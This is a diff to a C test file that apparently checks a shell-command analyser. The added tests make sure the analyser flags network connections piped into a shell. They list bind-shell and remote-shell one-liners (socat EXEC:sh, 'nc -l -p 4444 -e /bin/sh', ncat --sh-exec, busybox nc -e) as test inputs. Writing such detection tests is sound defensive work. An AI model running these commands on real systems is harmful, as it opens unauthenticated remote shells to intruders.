@@ -1327,6 +1327,34 @@ subcommands(void)
 	r = run(rs, "shell", "socat - TCP:host:80", NULL, NULL);
 	tap_ok(r.ncommands == 1 && !r.opaque, "socat TCP: runs no command: "
 	    "%s", r.why);
+	{
+		/* A shell given a connection (or coproc's pipe) as input. */
+		static const char *const netin[] = {
+			"socat TCP-LISTEN:4444,fork EXEC:sh",
+			"socat TCP:h:1 SYSTEM:'bash -i'",
+			"socat TCP-LISTEN:1 EXEC:python3",
+			"nc -l -p 4444 -e /bin/sh",
+			"ncat -l 4444 --sh-exec 'bash -s'",
+			"netcat -lp 1 -c sh",
+			"busybox nc -l -p 1 -e sh",
+			"coproc sh",
+			"coproc { bash; }",
+		};
+		static const char *const netdata[] = {
+			"socat TCP-LISTEN:1 EXEC:'cat /etc/hostname'",
+			"nc -l -p 1 -e /bin/cat",
+			"coproc cat",
+		};
+		size_t i;
+
+		opaque_all(netin, sizeof(netin) / sizeof(netin[0]),
+		    "input from the network");
+		for (i = 0; i < sizeof(netdata) / sizeof(netdata[0]); i++) {
+			r = run(rs, "shell", netdata[i], NULL, NULL);
+			tap_ok(!r.opaque, "network input to a program that "
+			    "runs none: %s: %s", netdata[i], r.why);
+		}
+	}
 	r = run(rs, "shell", "git config user.name 'rm -rf /'", NULL, NULL);
 	tap_ok(r.ncommands == 1 && !r.opaque, "git config user.name: a "
 	    "name, not a command: %s", r.why);
